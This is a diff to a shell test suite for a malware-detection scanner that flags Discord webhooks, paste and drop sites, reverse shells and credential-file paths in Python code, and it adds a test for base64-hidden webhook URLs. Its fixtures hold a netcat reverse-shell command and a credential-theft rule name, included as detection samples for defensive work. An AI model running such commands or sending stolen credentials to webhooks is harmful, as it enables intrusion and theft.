@@ -14,7 +14,7 @@ H = "https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl"
 S = "https://discord.com/invite/python"
 PY
 	run dets m.py WebhookEndpoint
-	assert_output "1 WebhookEndpoint https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl import 70"
+	assert_output "1 WebhookEndpoint https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl import 120"
 }
 
 @test "PasteOrDropSite: pastebin raw and ngrok; not pastebin's home page" {
@@ -68,7 +68,7 @@ b = "nc -e /bin/sh 192.0.2.1 4444"
 c = "/bin/sh"
 PY
 	run dets m.py ReverseShell
-	assert_output "$(printf '1 ReverseShell /bin/sh -i import 80\n2 ReverseShell nc -e  import 80')"
+	assert_output "$(printf '1 ReverseShell /bin/sh -i import 120\n2 ReverseShell nc -e  import 120')"
 }
 
 @test "CredentialPath: ssh keys, browser Login Data, Discord leveldb; not .ssh/known_hosts" {
@@ -139,4 +139,16 @@ PY
 	run --separate-stderr aura-analyze --rules none.yaml </dev/null
 	[ "$status" -eq 2 ]
 	[[ "$stderr" == *"either 'pattern' or 'entropy'"* ]]
+}
+
+@test "strings hidden as base64 are matched decoded (tag encoded); base64 of plain text is not a hit" {
+	hook=$(printf 'https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl' | base64 -w0)
+	plain=$(printf 'just some ordinary words here' | base64 -w0)
+	printf 'H = "%s"\nP = "%s"\n' "$hook" "$plain" > m.py
+	run dets m.py WebhookEndpoint
+	assert_output "1 WebhookEndpoint https://discord.com/api/webhooks/123456789/abcDEF_ghi-jkl import 120"
+	encoded() { scan m.py | jq -r 'select(.type == "hit") | (.tags | index("encoded") != null), .message'; }
+	run -0 encoded
+	assert_line --index 0 "true"
+	assert_line --index 1 --partial ", hidden as base64"
 }
